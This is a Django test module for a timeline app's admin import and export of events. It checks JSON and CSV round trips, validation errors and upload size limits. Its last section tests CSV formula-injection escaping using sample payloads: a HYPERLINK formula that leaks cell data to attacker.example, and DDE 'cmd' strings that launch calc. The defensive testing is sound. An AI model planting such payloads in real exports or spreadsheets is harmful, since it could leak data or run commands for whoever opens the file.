"""Admin import and export of events: the API's write format, validated by the API's rules."""

import json

from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from timeline import exchange
from timeline.models import Citation, Event

CHANGELIST = reverse("admin:timeline_event_changelist")
IMPORT = reverse("admin:timeline_event_import")


def export(client, action, events):
    response = client.post(CHANGELIST, {"action": action, ACTION_CHECKBOX_NAME: [e.pk for e in events]})
    assert response.status_code == 200
    return response


def upload(client, name, content):
    return client.post(IMPORT, {"file": SimpleUploadedFile(name, content)})


def test_json_export_is_the_api_write_format(staff_client, invasion):
    records = json.loads(export(staff_client, "export_json", [invasion]).content)
    assert records[0]["date"] == "February 24, 2022"
    assert {"party": "russia", "role": "actor"} in records[0]["parties"]
    assert records[0]["citations"][0]["quote"].startswith("On February 24, 2022")


def test_json_export_imports_back_losslessly(staff_client, invasion, overtures):
    content = export(staff_client, "export_json", [invasion, overtures]).content
    before = list(Event.objects.values_list("title", "edtf", "kind").order_by("id"))
    Event.objects.all().delete()
    response = upload(staff_client, "events.json", content)
    assert response.status_code == 302
    assert list(Event.objects.values_list("title", "edtf", "kind").order_by("id")) == before
    assert Citation.objects.count() == 2


def test_csv_export_imports_back_losslessly(staff_client, invasion, overtures):
    content = export(staff_client, "export_csv", [invasion, overtures]).content
    assert content.decode().splitlines()[0].startswith("key,title,summary,kind,status,date")
    citations = sorted(Citation.objects.values_list("quote", "char_start", "char_end"))
    Event.objects.all().delete()
    assert upload(staff_client, "events.csv", content).status_code == 302
    assert sorted(Citation.objects.values_list("quote", "char_start", "char_end")) == citations
    assert sorted(Event.objects.values_list("precision", flat=True)) == ["day", "month"]


def test_an_import_with_one_bad_record_writes_nothing_and_names_it(staff_client, db):
    records = [
        {"title": "Fine", "date": "2022"},
        {"title": "Bad", "date": "Septembr 2022"},
        {"title": "Unknown party", "date": "2022", "parties": [{"party": "atlantis"}]},
    ]
    response = upload(staff_client, "events.json", json.dumps(records).encode())
    assert response.status_code == 400
    errors = response.context["errors"]
    assert errors[0].startswith("record 2: date:") and "Septembr 2022" in errors[0]
    assert errors[1].startswith("record 3: parties.0.party:") and "atlantis" in errors[1]
    assert Event.objects.count() == 0


def test_an_unreadable_file_is_a_clear_error(staff_client, db):
    assert "not UTF-8" in upload(staff_client, "e.json", b"\xff\xfe[").context["errors"][0]
    assert "invalid JSON" in upload(staff_client, "e.json", b'[{"title": ').context["errors"][0]
    assert "missing column" in upload(staff_client, "e.csv", b"name\nx\n").context["errors"][0]
    assert ".json or .csv" in upload(staff_client, "e.txt", b"x").context["errors"][0]
    assert Event.objects.count() == 0


def test_importing_a_keyed_export_twice_updates_instead_of_duplicating(staff_client, db):
    records = [
        {"key": "overtures-2022-09", "title": "Overtures", "date": "September 2022", "kind": "proposal"}
    ]
    content = json.dumps(records).encode()
    assert upload(staff_client, "e.json", content).status_code == 302
    assert upload(staff_client, "e.json", content).status_code == 302
    assert Event.objects.count() == 1


def test_timelinejs_export_action(staff_client, invasion, overtures):
    document = json.loads(export(staff_client, "export_timelinejs", [invasion, overtures]).content)
    slides = {s["text"]["headline"]: s for s in document["events"]}
    assert "day" not in slides[overtures.title]["start_date"]
    assert int(slides[invasion.title]["start_date"]["day"]) == 24


def test_review_queue_link_is_on_every_admin_page(staff_client, db):
    html = staff_client.get(reverse("admin:index")).content.decode()
    assert "Review queue" in html


# --- the size of an import -------------------------------------------------------------------------

MIB = 1024 * 1024


def padded(records, size):
    """A valid JSON file of ``size`` bytes: the records, then spaces."""
    content = json.dumps(records).encode()
    return content + b" " * (size - len(content))


def test_the_import_page_states_the_size_limit(staff_client, db):
    html = staff_client.get(IMPORT).content.decode()
    assert "up to <strong>5 MiB</strong>" in html and "at most 5 MiB" in html


def test_an_import_larger_than_the_request_limit_but_within_its_own_is_imported(staff_client, settings, db):
    size = 3 * MIB
    assert size > settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    response = upload(staff_client, "big.json", padded([{"title": "Big", "date": "2022"}], size))
    assert response.status_code == 302, response.content[:300]
    assert Event.objects.get().title == "Big"


def test_a_file_of_exactly_the_import_limit_is_imported(staff_client, db):
    content = padded([{"title": "Full", "date": "2022"}], exchange.MAX_IMPORT_BYTES)
    assert upload(staff_client, "full.json", content).status_code == 302
    assert Event.objects.count() == 1


def test_a_file_just_over_the_import_limit_is_an_error_on_the_import_page(staff_client, db):
    content = padded([{"title": "Over", "date": "2022"}], exchange.MAX_IMPORT_BYTES + 1)
    response = upload(staff_client, "over.json", content)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert "over.json: larger than 5 MiB" in response.context["errors"][0]
    assert Event.objects.count() == 0


def test_an_upload_far_over_the_limit_is_an_admin_error_message_not_json(staff_client, db):
    content = padded([{"title": "Huge", "date": "2022"}], 6 * MIB)
    response = upload(staff_client, "huge.json", content)
    assert response.status_code == 303  # refused from its Content-Length, before it is read
    assert response["Location"].startswith(IMPORT)
    page = staff_client.get(response["Location"])
    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
    [message] = [m for m in page.context["messages"]]
    assert message.level_tag == "error"
    assert "too large" in message.message and "up to 5 MiB" in message.message
    assert "request_too_large" not in page.content.decode()
    assert Event.objects.count() == 0


def test_the_import_limit_is_the_import_pages_alone(token_client, settings, db):
    body = json.dumps({"title": "x", "date": "2022", "summary": "x" * (3 * MIB)}).encode()
    response = token_client.generic("POST", "/api/events/", body, content_type="application/json")
    assert response.status_code == 413 and response.json()["code"] == "request_too_large"


def _state():
    return sorted(Event.objects.values_list("id", "key", "title", "edtf", "kind", "status"))


def test_an_export_of_events_made_without_keys_imports_back_as_updates_creating_nothing(
    staff_client, invasion, overtures, decree
):
    from timeline.exchange import import_records, read_records

    assert all(e.key for e in (invasion, overtures, decree))  # made by the services without one
    for action, name in (("export_json", "events.json"), ("export_csv", "events.csv")):
        content = export(staff_client, action, [invasion, overtures, decree]).content
        before, citations = _state(), Citation.objects.count()
        result = import_records(read_records(name=name, content=content))
        assert (result.created, result.updated, result.errors) == (0, 3, []), name
        assert _state() == before and Citation.objects.count() == citations
        response = upload(staff_client, name, content)
        assert response.status_code == 302
        assert _state() == before


def test_an_event_added_in_the_admin_has_a_key_and_its_export_updates_it(staff_client, db):
    from timeline.exchange import import_records, read_records

    from .test_admin import event_form

    form = event_form(title="Summit in Switzerland", kind="meeting", date_text="15 June 2024", end_text="16 June 2024")
    assert staff_client.post(reverse("admin:timeline_event_add"), form).status_code == 302
    event = Event.objects.get()
    assert event.key == "summit-in-switzerland-2024-06-15-2024-06-16"
    content = export(staff_client, "export_json", [event]).content
    result = import_records(read_records(name="e.json", content=content))
    assert (result.created, result.updated) == (0, 1)
    assert Event.objects.count() == 1


# --- spreadsheet formulas in the CSV export (issue 18) -----------------------------------------------

FORMULA_TITLES = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'Tis the season",  # begins with a quote: gets one more, so the rule to read it back stays exact
    "''=already quoted",
    "Plain title",
]


def test_the_csv_export_writes_no_cell_a_spreadsheet_would_run(staff_client, db):
    import csv
    import io

    from timeline import services
    from timeline.exports.csv import FORMULA_STARTS

    events = [
        services.event_create(title=title, date=f"{2000 + n}", summary=f"={n}+1") for n, title in enumerate(FORMULA_TITLES)
    ]
    rows = list(csv.DictReader(io.StringIO(export(staff_client, "export_csv", events).content.decode())))
    assert len(rows) == len(FORMULA_TITLES)
    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row.values())
    by_key = {row["key"]: row for row in rows}
    hyperlink = by_key[events[0].key]
    assert hyperlink["title"] == f"'{FORMULA_TITLES[0]}" and hyperlink["summary"] == "'=0+1"
    assert by_key[events[-1].key]["title"] == "Plain title"  # nothing else changes


def test_a_csv_export_with_formula_like_cells_imports_back_exactly(staff_client, db):
    from timeline import services

    events = [
        services.event_create(title=title, date=f"{2000 + n}", summary=f"-{n} and more") for n, title in enumerate(FORMULA_TITLES)
    ]
    content = export(staff_client, "export_csv", events).content
    before = sorted(Event.objects.values_list("key", "title", "summary", "edtf"))
    Event.objects.all().delete()
    response = upload(staff_client, "events.csv", content)
    assert response.status_code == 302, response.context and response.context.get("errors")
    assert sorted(Event.objects.values_list("key", "title", "summary", "edtf")) == before
